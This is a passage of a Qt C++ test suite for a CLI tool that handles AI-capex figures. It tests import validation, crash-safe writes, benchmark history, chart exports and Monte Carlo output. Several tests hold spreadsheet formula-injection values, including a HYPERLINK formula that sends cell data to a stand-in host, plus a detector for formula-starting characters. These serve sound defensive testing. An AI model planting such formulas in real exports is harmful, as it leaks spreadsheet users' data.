    QFETCH(QStringList, args);
    QFETCH(QString, mentions);
    const QString db = m_home.filePath(QStringLiteral("bad-change.sqlite"));
    if (!QFile::exists(db)) {
        const QString rival = m_home.filePath(QStringLiteral("bad-change.csv"));
        writeBytes(rival, kListingHeader + kOracleRival);
        QCOMPARE(run({"import", rival, "--user-db", db}).exitCode, 0);
    }
    const QByteArray before = sha256(db);
    const Run refused = run(QStringList{"figures", "--user-db", db} + args);
    QCOMPARE(refused.exitCode, 2);
    QVERIFY(refused.out.isEmpty());
    QCOMPARE(refused.err.count('\n'), 1);
    QVERIFY2(refused.err.contains(mentions.toUtf8()), refused.err.constData());
    QCOMPARE(sha256(db), before);

    // Without a user database the same refusal creates none.
    const QString absent = m_home.filePath(QStringLiteral("absent.sqlite"));
    QCOMPARE(run(QStringList{"figures", "--user-db", absent} + args).exitCode, 2);
    QVERIFY(!QFile::exists(absent));
}

void TestCli::importValidOnlyLeavesOutBadRows()
{
    const QString db = m_home.filePath(QStringLiteral("valid-only.sqlite"));
    const QString file = m_home.filePath(QStringLiteral("mixed.csv"));
    writeBytes(file, kListingHeader + userRow("good-1", "5") + QByteArray(userRow("bad", "6")).replace("USD", "EUR")
                         + userRow("good-2", "7"));
    const Run refused = run({"import", file, "--user-db", db});
    QCOMPARE(refused.exitCode, 1);
    QCOMPARE(refused.err.count('\n'), 1);
    QVERIFY2(refused.err.contains(file.toUtf8() + ":3: unit:"), refused.err.constData());
    QVERIFY(!QFile::exists(db));

    const Run partial = run({"import", file, "--valid-only", "--user-db", db});
    QCOMPARE(partial.exitCode, 0);
    QVERIFY2(partial.out.contains("2 added") && partial.out.contains("1 left out"), partial.out.constData());
    QCOMPARE(partial.err.count('\n'), 1);
    QVERIFY2(partial.err.contains(file.toUtf8() + ":3: unit:"), partial.err.constData());
    const Run listed = run({"figures", "--user-db", db, "--format", "json"});
    QStringList own;
    for (const QJsonValue &row : QJsonDocument::fromJson(listed.out).array())
        if (row.toObject().value("origin").toString() == "user")
            own << row.toObject().value("id").toString();
    QCOMPARE(own, (QStringList{"good-1", "good-2"}));
}

void TestCli::badImportLeavesTheDatabaseUnchanged_data()
{
    QTest::addColumn<QStringList>("extraArgs");
    QTest::addColumn<QByteArray>("content"); // written to the CSV file; "-" for no file at all
    QTest::addColumn<int>("exitCode");
    QTest::addColumn<QString>("mentions");   // %1 stands for the CSV file's path
    const QByteArray good = userRow("u9", "9");
    QTest::newRow("no file argument") << QStringList{"--no-file"} << QByteArray("-") << 2 << "needs a CSV file";
    QTest::newRow("missing file") << QStringList{} << QByteArray("-") << 1 << "%1: no such file";
    QTest::newRow("unknown option") << QStringList{"--all"} << good << 2 << "--all";
    QTest::newRow("two files") << QStringList{"other.csv"} << good << 2 << "other.csv";
    QTest::newRow("empty") << QStringList{} << QByteArray() << 1 << "%1: the file is empty";
    QTest::newRow("header only") << QStringList{} << kListingHeader << 1 << "%1:1: no figure rows";
    QTest::newRow("wrong columns") << QStringList{} << QByteArray("name,price\nx,1\n") << 1 << "%1:1: name: unknown column";
    QTest::newRow("binary garbage") << QStringList{} << QByteArray("\x7f" "ELF\x02\x01\x01\0\0\0\xff\xfe", 12) << 1 << "%1:1: not UTF-8";
    QTest::newRow("comma decimal") << QStringList{} << kListingHeader + QByteArray(good).replace("9000000000", "\"9,5\"") << 1 << "%1:2: value:";
    QTest::newRow("bad url") << QStringList{} << kListingHeader + QByteArray(good).replace("https://", "ftp://") << 1 << "%1:2: source_url:";
    QTest::newRow("one bad of two") << QStringList{} << kListingHeader + good + QByteArray(userRow("u10", "1")).replace("2025,reported", "2025-Q5,reported") << 1 << "%1:3: period:";
    QTest::newRow("valid-only, all bad") << QStringList{"--valid-only"} << kListingHeader + QByteArray(good).replace("capex", "gossip") << 1 << "%1:2: category:";
    QTest::newRow("formula id") << QStringList{} << kListingHeader + QByteArray(good).replace("u9,", "\"=HYPERLINK(\"\"http://x\"\")\",") << 1 << "%1:2: id: is not a plain id";
    QTest::newRow("NUL in a quoted field") << QStringList{} << kListingHeader + QByteArray(good).replace("billion, it said", QByteArray("billion\0, it said", 17)) << 1 << "%1:2: column 14: a NUL byte";
}

void TestCli::badImportLeavesTheDatabaseUnchanged()
{
    QFETCH(QStringList, extraArgs);
    QFETCH(QByteArray, content);
    QFETCH(int, exitCode);
    QFETCH(QString, mentions);
    // A user database with one figure in it already.
    const QString db = m_home.filePath(QStringLiteral("unchanged.sqlite"));
    if (!QFile::exists(db)) {
        const QString seed = m_home.filePath(QStringLiteral("seed.csv"));
        writeBytes(seed, kListingHeader + userRow("kept", "4"));
        QCOMPARE(run({"import", seed, "--user-db", db}).exitCode, 0);
    }
    const QByteArray before = sha256(db);
    const QString file = m_home.filePath(QStringLiteral("bad-import.csv"));
    QFile::remove(file);
    if (content != "-")
        writeBytes(file, content);
    QStringList args{"import"};
    if (!extraArgs.contains("--no-file"))
        args << file;
    for (const QString &extra : extraArgs)
        if (extra != "--no-file")
            args << extra;
    args << "--user-db" << db;
    const Run result = run(args);
    QCOMPARE(result.exitCode, exitCode);
    QVERIFY(result.out.isEmpty());
    const QByteArray expected = QString(mentions).replace(QStringLiteral("%1"), file).toUtf8();
    // One line on stderr (with --valid-only, the rows left out are listed before it).
    QVERIFY2(result.err.count('\n') == (extraArgs.contains("--valid-only") ? 2 : 1), result.err.constData());
    QVERIFY2(result.err.contains(expected), result.err.constData());
    QCOMPARE(sha256(db), before);
    QVERIFY(!QFile::exists(db + "-wal") || QFileInfo(db + "-wal").size() == 0);
}

void TestCli::killedImportLeavesAllOrNone()
{
    // The real command, killed once it has begun writing: the database opens with the rows
    // of before, or with every new row, never with some.
    constexpr int kRows = 40000;
    QByteArray text = kListingHeader;
    for (int i = 0; i < kRows; ++i)
        text += userRow("bulk-" + QByteArray::number(i), QByteArray::number(i % 900 + 1));
    const QString file = m_home.filePath(QStringLiteral("bulk.csv"));
    writeBytes(file, text);
    const QString db = m_home.filePath(QStringLiteral("killed.sqlite"));
    const QString seed = m_home.filePath(QStringLiteral("seed-one.csv"));
    writeBytes(seed, kListingHeader + userRow("first", "2"));
    QCOMPARE(run({"import", seed, "--user-db", db}).exitCode, 0);

    QProcess importer;
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert(QStringLiteral("XDG_DATA_HOME"), m_home.path());
    importer.setProcessEnvironment(env);
    importer.start(QStringLiteral(CLIFF_EXECUTABLE), {"import", file, "--user-db", db});
    QVERIFY(importer.waitForStarted());
    const QString wal = db + QStringLiteral("-wal");
    QElapsedTimer waited;
    waited.start();
    while (QFileInfo(wal).size() < 200000 && importer.state() == QProcess::Running && waited.elapsed() < 60000)
        QTest::qWait(1);
    const qint64 walAtKill = QFileInfo(wal).size();
    const qint64 killedAfterMs = waited.elapsed();
    ::kill(pid_t(importer.processId()), SIGKILL);
    importer.waitForFinished(300000);

    const Run listed = run({"figures", "--user-db", db, "--category", "capex"});
    QCOMPARE(listed.exitCode, 0);
    QVERIFY2(listed.err.isEmpty(), listed.err.constData());
    auto rows = cliff::csv::parse(listed.out.toStdString(), "stdout");
    QVERIFY(rows.ok());
    const auto own = std::count_if(rows->begin(), rows->end(),
                                   [](const cliff::csv::Record &r) { return r.fields.back() == "user"; });
    QVERIFY2(own == 1 || own == kRows + 1, qPrintable(QString::number(own)));
    qInfo("killed after %lld ms with %lld bytes of WAL: %lld user figures", killedAfterMs, walAtKill,
          qlonglong(own));
    const Run checked = run({"check-db", db});
    QCOMPARE(checked.exitCode, 0);
}

void TestCli::benchSavesRunsAndListsTheHistory()
{
    const QString db = m_home.filePath(QStringLiteral("bench-history.sqlite"));
    const Run empty = run({"bench", "--history", "--user-db", db});
    QCOMPARE(empty.exitCode, 0);
    QVERIFY(!QFileInfo::exists(db)); // listing never creates the database
    // The smallest run the command allows: a few tokens, two repetitions, no dense models.
    const QStringList quick{"bench", "--tokens", "2", "--prompt-tokens", "4", "--repetitions", "2",
                            "--no-dense", "--budget-gib", "0", "--quiet", "--user-db", db,
                            "--format", "json"};
    const Run first = run(quick);
    QCOMPARE(first.exitCode, 0);
    const QJsonObject printed = QJsonDocument::fromJson(first.out).object();
    QCOMPARE(printed.value("decode_tokens_per_s_samples").toArray().size(), 2);
    // A ceiling is steady when its probes, one per repetition, stay within 15% of their mean.
    for (const auto &[samples, steady] :
         {std::pair{"bandwidth_gbps_read_samples", "decode_ceiling_steady"},
          std::pair{"instruction_peak_gflops_samples", "prefill_ceiling_steady"}}) {
        const QJsonArray probes = printed.value(samples).toArray();
        QCOMPARE(probes.size(), 2);
        const double a = probes.at(0).toDouble(), b = probes.at(1).toDouble();
        QVERIFY(printed.value(steady).isBool());
        QCOMPARE(printed.value(steady).toBool(), std::abs(a - b) <= 0.15 * (a + b) / 2.0);
    }
    const Run unsaved = run(QStringList(quick) << "--no-save");
    QCOMPARE(unsaved.exitCode, 0);
    // Markdown: one row per combination, in the order run, with mean ± sd and both fractions.
    QStringList markdown = quick;
    markdown.replace(markdown.indexOf("json"), "md");
    const Run headline = run(markdown << "--no-save" << "--precision" << "fp32,q4");
    QCOMPARE(headline.exitCode, 0);
    const QList<QByteArray> lines = headline.out.split('\n');
    QVERIFY(lines.at(0).startsWith("| preset | precision | threads | SIMD | decode tokens/s |"));
    bool marked = false;
    for (int row = 0; row < 2; ++row) {
        const QList<QByteArray> cells = lines.at(2 + row).split('|');
        QCOMPARE(cells.size(), 10); // 8 columns between the outer bars
        QCOMPARE(cells.at(2).trimmed(), row == 0 ? QByteArray("fp32") : QByteArray("q4"));
        const QList<QByteArray> decode = cells.at(5).trimmed().split(' ');
        QCOMPARE(decode.size(), 3);
        QCOMPARE(decode.at(1), QByteArray("±"));
        QVERIFY(decode.at(0).toDouble() > 0.0);
        // Decode over the read bandwidth, marked † when that ceiling moved during the run.
        const QList<QByteArray> fraction = cells.at(7).trimmed().split(' ');
        QVERIFY(fraction.at(0).toDouble() > 0.0);
        QVERIFY(fraction.size() == 1 || fraction.at(1) == "†");
        marked = marked || fraction.size() == 2 || cells.at(8).trimmed().endsWith("†");
    }
    // The mark is explained below the table exactly when a cell carries it.
    QCOMPARE(headline.out.contains("\n† The probes of this ceiling"), marked);

    const Run history = run({"bench", "--history", "--format", "json", "--user-db", db});
    QCOMPARE(history.exitCode, 0);
    const QJsonArray runs = QJsonDocument::fromJson(history.out).array();
    QCOMPARE(runs.size(), 1); // the --no-save run is not there
    const QJsonObject saved = runs.at(0).toObject();
    const QJsonObject machine = printed.value("machine").toObject();
    QCOMPARE(saved.value("preset").toString(), printed.value("preset").toString());
    QCOMPARE(saved.value("decode_tokens_per_s").toDouble(), printed.value("decode_tokens_per_s").toDouble());
    QCOMPARE(saved.value("decode_tokens_per_s_samples").toArray(),
             printed.value("decode_tokens_per_s_samples").toArray());
    QCOMPARE(saved.value("prefill_tokens_per_s_samples").toArray(),
             printed.value("prefill_tokens_per_s_samples").toArray());
    QCOMPARE(saved.value("cpu_model").toString(), machine.value("cpu_model").toString());
    QCOMPARE(saved.value("threads_used").toInt(), machine.value("threads_used").toInt());
    QCOMPARE(saved.value("simd").toString(), machine.value("simd").toString());
    QVERIFY(saved.value("dense_over_moe_time_ratio").isNull());
    QCOMPARE(saved.value("report").toObject(), printed);

    const Run csv = run({"bench", "--history", "--format", "csv", "--user-db", db});
    QCOMPARE(csv.exitCode, 0);
    auto records = cliff::csv::parse(csv.out.toStdString(), "stdout");
    QVERIFY(records.ok());
    QCOMPARE(records->size(), std::size_t{2});
    QCOMPARE(records->front().fields.front(), std::string("id"));

    // A CPU name that reads as a formula (a hand-edited database) is written as text, numbers as
    // numbers.
    QProcess sqlite;
    sqlite.start(QStringLiteral("sqlite3"),
                 {db, QStringLiteral("UPDATE bench_runs SET cpu_model = '=HYPERLINK(\"http://x\")'")});
    QVERIFY(sqlite.waitForFinished(300000));
    QCOMPARE(sqlite.exitCode(), 0);
    const Run guarded = run({"bench", "--history", "--format", "csv", "--user-db", db});
    QCOMPARE(guarded.exitCode, 0);
    auto guardedRecords = cliff::csv::parse(guarded.out.toStdString(), "stdout");
    QVERIFY(guardedRecords.ok());
    const std::vector<std::string> &header = guardedRecords->front().fields;
    const std::vector<std::string> &row = guardedRecords->back().fields;
    const auto column = [&](const std::string &name) {
        return std::size_t(std::find(header.begin(), header.end(), name) - header.begin());
    };
    QCOMPARE(row.at(column("cpu_model")), std::string("'=HYPERLINK(\"http://x\")"));
    QCOMPARE(row.at(column("threads_used")),
             std::to_string(machine.value("threads_used").toInt()));

    const Run table = run({"bench", "--history", "--user-db", db});
    QCOMPARE(table.exitCode, 0);
    QVERIFY(table.out.contains("| olmoe-1b-7b | multi-head | fp32 |"));
    QCOMPARE(saved.value("attention").toString(), QStringLiteral("multi-head"));

    // A DeepSeek run saved before reports named their attention ran multi-head attention in
    // place of the latent attention the preset runs now, and is listed as such.
    QProcess older;
    older.start(QStringLiteral("sqlite3"),
                {db, QStringLiteral("UPDATE bench_runs SET preset = 'deepseek-v2-lite', "
                                    "report_json = json_remove(report_json, '$.attention')")});
    QVERIFY(older.waitForFinished(300000));
    QCOMPARE(older.exitCode(), 0);
    const Run olderTable = run({"bench", "--history", "--user-db", db});
    QVERIFY(olderTable.out.contains("| deepseek-v2-lite | multi-head (stand-in for latent) |"));

    // The history marks a decode roofline whose ceiling moved during its run, and leaves a run
    // saved before the probes were kept unmarked.
    const auto setSteady = [&](const QString &update) {
        QProcess sqlite3;
        sqlite3.start(QStringLiteral("sqlite3"),
                      {db, QStringLiteral("UPDATE bench_runs SET report_json = ") + update});
        QVERIFY(sqlite3.waitForFinished(300000));
        QCOMPARE(sqlite3.exitCode(), 0);
    };
    const QString fraction = QString::number(saved.value("decode_roofline_fraction").toDouble(), 'f', 2);
    for (const auto &[update, mark, steady] :
         {std::tuple{"json_set(report_json, '$.decode_ceiling_steady', json('false'))", " †", "false"},
          std::tuple{"json_set(report_json, '$.decode_ceiling_steady', json('true'))", "", "true"},
          std::tuple{"json_remove(report_json, '$.decode_ceiling_steady')", "", ""}}) {
        setSteady(QString::fromLatin1(update));
        const Run listed = run({"bench", "--history", "--user-db", db});
        QVERIFY2(listed.out.contains(("| " + fraction + mark + " |").toUtf8()), listed.out.constData());
        QCOMPARE(listed.out.contains("\n† The read-only bandwidth moved"), *mark != '\0');
        const Run listedCsv = run({"bench", "--history", "--format", "csv", "--user-db", db});
        auto rows = cliff::csv::parse(listedCsv.out.toStdString(), "stdout");
        QVERIFY(rows.ok());
        const std::vector<std::string> &names = rows->front().fields;
        const auto at = std::size_t(std::find(names.begin(), names.end(), "decode_ceiling_steady") - names.begin());
        QCOMPARE(rows->back().fields.at(at), std::string(steady));
    }
}

/// The width and height in a PNG's IHDR chunk.
static QSize pngSize(const QByteArray &png)
{
    if (png.size() < 24 || !png.startsWith("\x89PNG\r\n\x1a\n") || png.mid(12, 4) != "IHDR")
        return {};
    const auto be32 = [&](int at) {
        return int((uchar(png[at]) << 24) | (uchar(png[at + 1]) << 16) | (uchar(png[at + 2]) << 8) | uchar(png[at + 3]));
    };
    return {be32(16), be32(20)};
}

static QByteArray readAll(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

// Under an address-space limit (as a container or a shell's ulimit sets) a run that does not fit
// is refused before it allocates, naming the limit, instead of dying of std::bad_alloc.
void TestCli::benchUnderAnAddressSpaceLimitIsRefused()
{
#if defined(__SANITIZE_ADDRESS__)
    QSKIP("AddressSanitizer reserves more address space than the limit allows");
#else
    QProcess process;
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert(QStringLiteral("XDG_DATA_HOME"), m_home.path());
    process.setProcessEnvironment(env);
    process.start(QStringLiteral("/bin/sh"),
                  {QStringLiteral("-c"), QStringLiteral("ulimit -v 1500000; exec \"$0\" \"$@\""),
                   QStringLiteral(CLIFF_EXECUTABLE), QStringLiteral("bench"),
                   QStringLiteral("--no-save"), QStringLiteral("--quiet")});
    QVERIFY(process.waitForFinished(300000));
    QCOMPARE(process.exitStatus(), QProcess::NormalExit);
    QCOMPARE(process.exitCode(), 1);
    const QByteArray err = process.readAllStandardError();
    QCOMPARE(err.count('\n'), 1);
    QVERIFY2(err.contains("RLIMIT_AS"), err.constData());
#endif
}

/// True when a cell a spreadsheet reads as text would start a formula (OWASP's characters).
static bool startsFormula(const std::string &cell)
{
    return !cell.empty() && std::string_view("=+-@\t\r").find(cell.front()) != std::string_view::npos;
}

void TestCli::spreadsheetSafeFromImportToExport()
{
    // The user's rival of a shipped Oracle figure, whose note, source title and publisher carry
    // a formula, a leading minus and a comma.
    const QByteArray poisoned =
        "my-oracle-cds,credit,Oracle,5-year CDS spread,200,,,bp,2025-12-12,reported,broker-note,,200,"
        "Oracle CDS at 200 bps,\"=HYPERLINK(\"\"http://x/?d=\"\"&A2,\"\"click\"\")\",-Credit weekly,"
        "\"Broker, Inc.\",https://example.org/credit-weekly,2025-12,analysis,user\r\n";
    const QString db = m_home.filePath(QStringLiteral("poisoned.sqlite"));
    const QString file = m_home.filePath(QStringLiteral("poisoned.csv"));
    writeBytes(file, kListingHeader + poisoned);
    const Run added = run({"import", file, "--user-db", db});
    QCOMPARE(added.exitCode, 0);

    // The listing: no text cell starts a formula, numbers are plain, the guarded cells read back.
    const Run listed = run({"figures", "--user-db", db});
    QCOMPARE(listed.exitCode, 0);
    auto rows = cliff::csv::parse(listed.out.toStdString(), "stdout");
    QVERIFY(rows.ok());
    const std::vector<std::string> &header = rows->front().fields;
    const auto column = [&header](const char *name) {
        return std::size_t(std::find(header.begin(), header.end(), name) - header.begin());
    };
    const std::vector<std::string> *own = nullptr;
    for (std::size_t r = 1; r < rows->size(); ++r) {
        const std::vector<std::string> &fields = rows.value()[r].fields;
        for (std::size_t c = 0; c < fields.size(); ++c) {
            const bool number = header[c] == "value" || header[c] == "low" || header[c] == "high";
            QVERIFY2(number || !startsFormula(fields[c]), fields[c].c_str());
        }
        if (fields.front() == "my-oracle-cds")
            own = &fields;
    }
    QVERIFY(own);
    QCOMPARE((*own)[column("note")], std::string("'=HYPERLINK(\"http://x/?d=\"&A2,\"click\")"));
    QCOMPARE((*own)[column("source_title")], std::string("'-Credit weekly"));
    QCOMPARE((*own)[column("source_publisher")], std::string("Broker, Inc."));
    QCOMPARE((*own)[column("value")], std::string("200"));

    // That listing imports into a new database, whose listing is the same bytes.
    const QString listing = m_home.filePath(QStringLiteral("poisoned-listing.csv"));
    writeBytes(listing, listed.out);
    const QString copy = m_home.filePath(QStringLiteral("poisoned-copy.sqlite"));
    const Run imported = run({"import", listing, "--user-db", copy});
    QVERIFY2(imported.exitCode == 0, imported.err.constData());
    const Run relisted = run({"figures", "--user-db", copy});
    QCOMPARE(relisted.exitCode, 0);
    QCOMPARE(relisted.out, listed.out);

    // The exported chart data: the source comment is one cell, comma and all; no cell starts a
    // formula; numbers (here the plotted spreads and probabilities) are plain.
    const QString out = m_home.filePath(QStringLiteral("poisoned-export.csv"));
    const Run exported = run({"export", "--view", "fragility", "--chart", "implied-default", "--format",
                              "csv", "--user-db", db, "--out", out});
    QVERIFY2(exported.exitCode == 0, exported.err.constData());
    auto records = cliff::csv::parse(readAll(out).toStdString(), "export.csv");
    QVERIFY(records.ok());
    bool sourceComment = false;
    bool ownPlotted = false;
    std::size_t headerAt = 0;
    for (std::size_t r = 0; r < records->size(); ++r) {
        const std::vector<std::string> &fields = records.value()[r].fields;
        if (cliff::csv::isComment(records.value()[r])) {
            QVERIFY(headerAt == 0);
            sourceComment = sourceComment
                            || fields.front() == "# source: broker-note: Broker, Inc., \u201c-Credit weekly\u201d, "
                                                 "2025-12, https://example.org/credit-weekly; tier other";
            continue;
        }
        if (headerAt == 0) {
            headerAt = r;
            QCOMPARE(fields.front(), std::string("chart"));
            continue;
        }
        for (std::size_t c = 0; c < fields.size(); ++c) {
            const bool number = c == 2 || c == 4 || c == 5; // x, y, y_high
            bool plain = false;
            if (number && !fields[c].empty())
                QByteArray::fromStdString(fields[c]).toDouble(&plain);
            else
                plain = !startsFormula(fields[c]);
            QVERIFY2(plain, fields[c].c_str());
        }
        ownPlotted = ownPlotted || fields[8] == "my-oracle-cds";
    }
    QVERIFY(sourceComment);
    QVERIFY(ownPlotted);
}

void TestCli::exportWritesEachFormat()
{
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const QString png = dir.filePath("gap.png");
    const Run drawn = run({"export", "--view", "revenue-gap", "--format", "png", "--out", png, "--width", "900",
                           "--height", "600", "--dpi", "144", "--alt-text", "--set", "wacc=0.12"});
    QCOMPARE(drawn.exitCode, 0);
    QVERIFY2(!drawn.err.contains("compute-cliff:"), drawn.err.constData());
    QCOMPARE(pngSize(readAll(png)), QSize(1350, 900)); // 900 x 600 at 144/96
    QVERIFY(readAll(png + ".alt.txt").contains("AI revenue required vs projected"));

    // SVG and CSV are the same bytes run after run; the format follows the name when not given.
    for (const QString name : {"gap.svg", "gap.csv"}) {
        QByteArray previous;
        for (int attempt = 0; attempt < 2; ++attempt) {
            const QString path = dir.filePath(QString::number(attempt) + name);
            const Run made = run({"export", "--view", "revenue-gap", "--out", path, "--set", "wacc=0.12",
                                  "--title", "The gap, at a 12% cost of capital"});
            QCOMPARE(made.exitCode, 0);
            const QByteArray bytes = readAll(path);
            QVERIFY(!bytes.isEmpty());
            if (attempt == 1)
                QVERIFY2(bytes == previous, qPrintable(name));
            previous = bytes;
        }
    }
    QVERIFY(readAll(dir.filePath("0gap.svg")).contains("The gap, at a 12% cost of capital</text>"));

    // The CSV's 2030 requirement is the model command's, in US$ billions.
    const Run model = run({"model", "--view", "revenue-gap", "--set", "wacc=0.12", "--format", "json"});
    QCOMPARE(model.exitCode, 0);
    const double required = QJsonDocument::fromJson(model.out).object().value("outputs").toObject()
                                .value("required_revenue_2030_usd").toDouble();
    auto records = cliff::csv::parse(readAll(dir.filePath("0gap.csv")).toStdString(), "gap.csv");
    QVERIFY(records.ok());
    bool found = false;
    for (const cliff::csv::Record &record : *records) {
        if (!cliff::csv::isComment(record) && record.fields.size() > 4 && record.fields[1] == "Required revenue" && record.fields[2] == "2030") {
            QVERIFY(std::abs(std::stod(record.fields[4]) - required / 1e9) < 1e-9 * required / 1e9);
            found = true;
        }
    }
    QVERIFY(found);

    const Run pdf = run({"export", "--view", "fiber", "--format", "pdf", "--out", dir.filePath("fiber.pdf")});
    QCOMPARE(pdf.exitCode, 0);
    QVERIFY(readAll(dir.filePath("fiber.pdf")).startsWith("%PDF-"));
    const Run bundle = run({"export", "--view", "moat", "--chart", "all", "--format", "bundle",
                            "--out", dir.filePath("moat.zip")});
    QCOMPARE(bundle.exitCode, 0);
    QVERIFY(readAll(dir.filePath("moat.zip")).startsWith("PK\x03\x04"));
}

void TestCli::exportBadInputLeavesNoFile_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<int>("exitCode");
    QTest::addColumn<QByteArray>("mentions");
    QTest::newRow("unknown view") << QStringList{"--view", "gossip"} << 2 << QByteArray("gossip");
    QTest::newRow("no view") << QStringList{"--format", "png"} << 2 << QByteArray("--view");
    QTest::newRow("unknown format") << QStringList{"--view", "moat", "--format", "gif"} << 2 << QByteArray("gif");
    QTest::newRow("unknown chart") << QStringList{"--view", "moat", "--chart", "pie"} << 2 << QByteArray("pie");
    QTest::newRow("width too small") << QStringList{"--view", "moat", "--width", "10"} << 2 << QByteArray("width 10");
    QTest::newRow("width in words") << QStringList{"--view", "moat", "--width", "wide"} << 2 << QByteArray("wide");
    QTest::newRow("dpi too high") << QStringList{"--view", "moat", "--dpi", "5000"} << 2 << QByteArray("dpi 5000");
    QTest::newRow("too many pixels") << QStringList{"--view", "moat", "--width", "8000", "--height", "8000", "--dpi", "1200"} << 2 << QByteArray("over the limit");
    QTest::newRow("out of range") << QStringList{"--view", "fiber", "--set", "wacc=9"} << 2 << QByteArray("wacc");
    QTest::newRow("unknown option") << QStringList{"--view", "fiber", "--colour", "red"} << 2 << QByteArray("--colour");
    QTest::newRow("missing scenario") << QStringList{"--view", "fiber", "--scenario", "/nonexistent/s.json"} << 1 << QByteArray("s.json");
    QTest::newRow("as-of no such day") << QStringList{"--view", "fiber", "--as-of", "2025-02-30"} << 2 << QByteArray("day 30");
    QTest::newRow("invalid scenario") << QStringList{"--view", "fiber", "--scenario", "BAD"} << 1 << QByteArray("bad.json");
    QTest::newRow("unwritable folder") << QStringList{"--view", "fiber", "--out", "/nonexistent/chart.png"} << 1 << QByteArray("/nonexistent/chart.png");
}

void TestCli::exportBadInputLeavesNoFile()
{
    QFETCH(QStringList, args);
    QFETCH(int, exitCode);
    QFETCH(QByteArray, mentions);
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const QString scenario = dir.filePath("bad.json");
    QFile bad(scenario);
    QVERIFY(bad.open(QIODevice::WriteOnly));
    bad.write("{\"wacc\": }");
    bad.close();
    for (QString &arg : args) {
        if (arg == "BAD")
            arg = scenario;
    }
    if (!args.contains("--out"))
        args << "--out" << dir.filePath("chart.png");
    const Run result = run(QStringList{"export"} + args);
    QCOMPARE(result.exitCode, exitCode);
    QVERIFY(result.out.isEmpty());
    // One line of ours (the platform may add its own warnings about the session).
    QCOMPARE(result.err.count("compute-cliff:"), 1);
    QVERIFY2(result.err.contains(mentions), result.err.constData());
    QCOMPARE(QDir(dir.path()).entryList(QDir::Files | QDir::Hidden), QStringList{"bad.json"});
}

void TestCli::modelMonteCarloIsReproducible()
{
    const QStringList args{"model", "--view", "revenue-gap", "--monte-carlo", "2000", "--seed", "11",
                           "--format", "json"};
    const Run first = run(args);
    QCOMPARE(first.exitCode, 0);
    QVERIFY2(first.err.isEmpty(), first.err.constData());
    const Run second = run(args);
    QCOMPARE(second.out, first.out); // the same seed, the same bytes
    const QJsonObject document = QJsonDocument::fromJson(first.out).object();
    const QJsonObject mc = document.value("monte_carlo").toObject();
    QCOMPARE(mc.value("draws").toInt(), 2000);
    QCOMPARE(mc.value("seed").toInt(), 11);
    // Every sampled assumption has its distribution beside the assumptions, with its basis.
    const QJsonObject distributions = document.value("distributions").toObject();
    for (const QJsonValue &key : mc.value("sampled").toArray()) {
        QVERIFY(distributions.contains(key.toString()));
        QVERIFY(!mc.value("distribution_basis").toObject().value(key.toString()).toObject()
                     .value("basis").toString().isEmpty());
    }
    QVERIFY(distributions.contains("capex_guidance_scale"));
    const QJsonArray gap = mc.value("bands").toObject().value("gap_usd").toArray();
    QCOMPARE(gap.size(), document.value("outputs").toObject().value("years").toArray().size());
    for (const QJsonValue &row : gap) {
        const QJsonObject q = row.toObject();
        QVERIFY(q.value("p5").toDouble() <= q.value("p10").toDouble());
        QVERIFY(q.value("p10").toDouble() <= q.value("p50").toDouble());
        QVERIFY(q.value("p50").toDouble() <= q.value("p90").toDouble());
        QVERIFY(q.value("p90").toDouble() <= q.value("p95").toDouble());
    }
    const QJsonObject probabilities = mc.value("probabilities").toObject();
    QVERIFY(probabilities.contains("gap_2030_positive"));
    QVERIFY(probabilities.contains("payback_after_economic_life"));
    for (const QJsonValue &p : probabilities) {
        const double value = p.toObject().value("probability").toDouble(-1.0);
        QVERIFY(value >= 0.0 && value <= 1.0);
    }
    // The gap at the default assumptions sits inside the 5-95% range of the 2030 gap.
    const QJsonObject gap2030 = mc.value("quantiles").toObject().value("gap_2030_usd").toObject();
    const Run defaults = run({"model", "--view", "revenue-gap", "--format", "json"});
    const double atDefaults = QJsonDocument::fromJson(defaults.out).object().value("outputs")
                                  .toObject().value("gap_2030_usd").toDouble();
    QVERIFY(gap2030.value("p5").toDouble() < atDefaults && atDefaults < gap2030.value("p95").toDouble());

    const Run otherSeed = run({"model", "--view", "revenue-gap", "--monte-carlo", "2000", "--seed",
                               "12", "--format", "json"});
    QCOMPARE(otherSeed.exitCode, 0);
    QVERIFY(QJsonDocument::fromJson(otherSeed.out).object().value("monte_carlo") != mc);

    // The fragility view: the chances of ranking most fragile add up to one.
    const Run fragility = run({"model", "--view", "fragility", "--monte-carlo", "1000", "--format", "json"});
    QCOMPARE(fragility.exitCode, 0);
    double sum = 0.0;
    const QJsonObject fragile = QJsonDocument::fromJson(fragility.out).object().value("monte_carlo")
                                    .toObject().value("probabilities").toObject();
    for (const char *party : {"hyperscalers", "model_labs", "neoclouds", "equity_holders"})
        sum += fragile.value(QStringLiteral("most_fragile_") + QLatin1String(party)).toObject()
                   .value("probability").toDouble();
    QVERIFY(std::abs(sum - 1.0) < 1e-9);
}

void TestCli::modelTornadoSortsTheSwings()
{
    const Run gap = run({"model", "--view", "revenue-gap", "--tornado", "--format", "json"});
    QCOMPARE(gap.exitCode, 0);
    const QJsonObject document = QJsonDocument::fromJson(gap.out).object();
    QVERIFY(!document.contains("monte_carlo"));
    const QJsonObject tornado = document.value("tornado").toObject();
    QCOMPARE(tornado.value("metric").toString(), QStringLiteral("gap_2030_usd"));
    QCOMPARE(tornado.value("input_range").toString(), QStringLiteral("p10-p90"));
    QCOMPARE(tornado.value("base").toDouble(),
             document.value("outputs").toObject().value("gap_2030_usd").toDouble());
    const QJsonArray bars = tornado.value("bars").toArray();
    QCOMPARE(bars.size(), 7); // every assumption of the view
    double previous = std::numeric_limits<double>::infinity();
    for (const QJsonValue &value : bars) {
        const QJsonObject bar = value.toObject();
        const double swing = bar.value("swing").toDouble();
        QVERIFY(std::abs(swing) <= previous);
        previous = std::abs(swing);
        QCOMPARE(swing, bar.value("high_output").toDouble() - bar.value("low_output").toDouble());
        QVERIFY(bar.value("low_input").toDouble() <= bar.value("high_input").toDouble());
    }
    // The revenue gap does not read the GPU's economic life: its bar is empty.
    for (const QJsonValue &value : bars) {
        if (value.toObject().value("assumption").toString() == u"gpu_economic_life_years")
